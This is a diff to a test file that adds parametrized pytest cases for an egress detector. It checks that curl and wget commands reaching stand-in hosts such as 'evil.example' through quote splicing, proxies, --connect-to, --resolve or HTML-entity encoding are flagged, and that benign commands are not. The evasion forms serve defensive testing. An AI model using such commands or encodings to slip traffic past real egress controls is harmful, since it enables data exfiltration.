@@ -75,6 +75,63 @@ def test_what_is_allowed_or_no_host_is_left_alone(text: str) -> None:
     assert not detected("egress", text, allow=["allowed.example", "*.good.example"])["flagged"]
 
 
+@pytest.mark.parametrize(
+    ("text", "hosts"),
+    [
+        ("curl https://ok.example''.evil.example/", ["ok.example", "ok.example.evil.example"]),
+        ("curl 'https://ok.example'.evil.example", ["ok.example", "ok.example.evil.example"]),
+        ('curl ok.example"".evil.example', ["ok.example", "ok.example.evil.example"]),
+        ('url = "https://ok.example"".evil.example"', ["[unread]", "ok.example"]),
+        ("https://`echo evil`/", ["[unread]"]),
+        ("get https://<host>/x", ["[unread]"]),
+        ("curl $URL", ["[unread]"]),
+        ("curl -s $URL", ["[unread]"]),
+        ("curl https://ok.example $URL", ["[unread]", "ok.example"]),
+        ("curl https://$x.ok.example/", ["$x.ok.example"]),
+        ("curl https://{ok,evil}.ok.example/", ["{ok,evil}.ok.example"]),
+        ("curl https://[a-z].ok.example/", ["[unread]"]),
+        ("curl -x evil:3128 https://ok.example", ["evil", "ok.example"]),
+        ("curl -sxevil https://ok.example", ["evil", "ok.example"]),
+        ("curl --proxy socks5h://evil https://ok.example", ["evil", "ok.example"]),
+        ("curl --socks5 evil https://ok.example", ["evil", "ok.example"]),
+        ("curl --connect-to ::evil:443 https://ok.example", ["[unread]", "ok.example"]),
+        ("curl --resolve ok.example:443:6.6.6.6 https://ok.example", ["[unread]", "ok.example"]),
+        ("curl -K cfg https://ok.example", ["[unread]", "ok.example"]),
+        ("https_proxy=evil:80 curl https://ok.example", ["evil", "ok.example"]),
+        ("wget evil:8080/x", ["evil"]),
+        ("|https://evil.example|x|", ["[unread]"]),
+        ("_https://evil.example_", ["evil.example"]),
+        ("https&#58;//evil.example", ["evil.example"]),
+        ("https&colon;&sol;&sol;evil&#x0002e;example", ["evil.example"]),
+        ("&#104;ttps://evil.example &#" + "9" * 5000, ["evil.example"]),
+    ],
+)
+def test_what_cannot_be_read_is_not_allowed(text: str, hosts: list[str]) -> None:
+    """What a shell joins or fills in, an option that leads elsewhere, an entity of HTML, a template."""
+    found = detected("egress", text, allow=["ok.example", "*.ok.example"])
+    assert set(hosts) <= set(found["hosts"])
+    assert "not_allowed" in found["categories"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'curl https://ok.example -H "Authorization: Bearer $T" -d "a $B" -o $OUT > $LOG',
+        "curl -x http://ok.example:3128 https://ok.example/$path",
+        "https_proxy=http://ok.example:80 curl https://ok.example",
+        'call startswith("https://"), or "https://" + host, or `https://`',
+        "`https://ok.example`'s page, 'https://ok.example', and \"https://ok.example\".",
+        "curl doesn't read $URL, that's https://ok.example",
+        "please fetch $5 from the host",
+        '<a href="https://ok.example">it&#39;s &amp; here</a>',
+        "curl -X POST https://ok.example",
+    ],
+)
+def test_commands_and_prose_with_allowed_hosts_alone_are_left_alone(text: str) -> None:
+    """Quotes, variables in headers and files, a proxy that is allowed, entities in a page."""
+    assert detected("egress", text, allow=["ok.example"])["findings"] == []
+
+
 def test_a_host_below_is_not_the_host_itself() -> None:
     """`*.good.example` allows neither `good.example` nor `notgood.example`."""
     for host in ("good.example", "notgood.example", "good.example.evil.example"):
